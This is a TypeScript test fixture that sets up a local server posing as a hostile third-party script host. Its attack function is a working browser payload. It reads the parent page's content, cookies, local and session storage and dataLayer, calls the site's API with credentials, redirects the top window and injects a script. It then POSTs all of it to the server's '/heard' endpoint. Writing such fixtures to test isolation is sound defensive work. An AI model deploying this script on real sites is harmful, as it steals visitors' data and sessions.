import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { text } from 'node:stream/consumers';

/** What the script of the hostile party tried, and what came of it: what it read, or the name of the error. */
export type Attempts = Record<string, string>;

/**
 * Runs in the place of a tag manager or a chat: tries everything by which a script could get at what a visitor enters, and
 * sends its own server all that it got. One function that needs nothing beside it, since the browser gets its text.
 */
async function attack(): Promise<void> {
  const attempts: Attempts = {};
  const attempt = async (name: string, work: () => unknown) => {
    try {
      attempts[name] = String(await work());
    } catch (error) {
      attempts[name] = `! ${error instanceof Error ? error.name : String(error)}`;
    }
  };
  const { href, origin } = new URL(location.href);
  const own = new URL((document.querySelector('script[data-script]') as HTMLScriptElement).dataset['script'] ?? href);
  await attempt('origin', () => globalThis.origin);
  await attempt('document of the page', () => parent.document.body.innerText);
  await attempt('document of the top', () => top?.document.documentElement.outerHTML);
  await attempt('address of the page', () => parent.location.href);
  await attempt('query of the page', () => parent.location.search);
  await attempt('history of the page', () => parent.history.length);
  await attempt('data of the page', () => JSON.stringify(Reflect.get(parent, 'dataLayer')));
  await attempt('storage of the page', () => JSON.stringify(parent.localStorage));
  await attempt('local storage', () => JSON.stringify(localStorage));
  await attempt('session storage', () => JSON.stringify(sessionStorage));
  await attempt('cookies', () => document.cookie);
  await attempt(
    'database',
    () =>
      new Promise((resolve, reject) => {
        const request = indexedDB.open('x');
        request.addEventListener('success', () => resolve('opened'));
        request.addEventListener('error', () => reject(request.error ?? new Error('closed')));
      }),
  );
  await attempt('caches', () => caches.keys());
  await attempt('workers', () => navigator.serviceWorker.getRegistrations());
  await attempt('referrer', () => document.referrer);
  await attempt('name', () => window.name);
  await attempt('own element', () => window.frameElement?.outerHTML ?? 'none');
  await attempt('data of other frames', () => {
    const frames = Array.from({ length: parent.length }, (_, index) => parent.frames[index] ?? parent);
    // Which of them comes first is chance.
    return Reflect.get(frames.find((frame) => frame !== window) ?? parent, 'dataLayer');
  });
  await attempt('the api', async () =>
    (await fetch(`${origin}/api/initial_payload`, { credentials: 'include' })).text(),
  );
  await attempt('the api by its page', async () => (await fetch('/signup/ws10/home')).text());
  await attempt('moving the page', () => {
    if (top) top.location.href = `${own.origin}/stolen`;
    return 'moved';
  });
  await attempt('a script in the page', () => {
    const script = parent.document.createElement('script');
    parent.document.head.append(script);
    return 'put in';
  });
  for (const message of ['loaded', { push: 1 }, { event: 'x' }, { type: 'submit' }]) parent.postMessage(message, '*');
  addEventListener(
    'message',
    ({ data }) => void fetch(`${own.origin}/heard`, { method: 'POST', body: JSON.stringify(data) }),
  );
  await fetch(`${own.origin}/heard`, { method: 'POST', body: JSON.stringify({ attempts }) });
}

/** A server that stands in the place of a third party: its script attacks the page, and it notes what reaches it. */
export async function openHostileParty() {
  const heard: string[] = [];
  const server = createServer((request, response) => {
    response.setHeader('access-control-allow-origin', '*');
    if (request.url?.endsWith('.js'))
      return response.setHeader('content-type', 'text/javascript').end(`(${String(attack)})()`);
    // The address of a request is heard as well.
    heard.push(`${request.url} ${request.headers.referer ?? ''}`);
    void text(request).then((body) => heard.push(body));
    return response.end();
  });
  await new Promise<void>((resolve) => {
    server.listen(0, '127.0.0.1', resolve);
  });
  const { port } = server.address() as AddressInfo;
  const attempts = (): Attempts[] =>
    heard
      .filter((one) => one.startsWith('{"attempts"'))
      .map((one) => (JSON.parse(one) as { attempts: Attempts }).attempts);
  return { address: `http://127.0.0.1:${port}`, heard, attempts, close: () => server.close() };
}
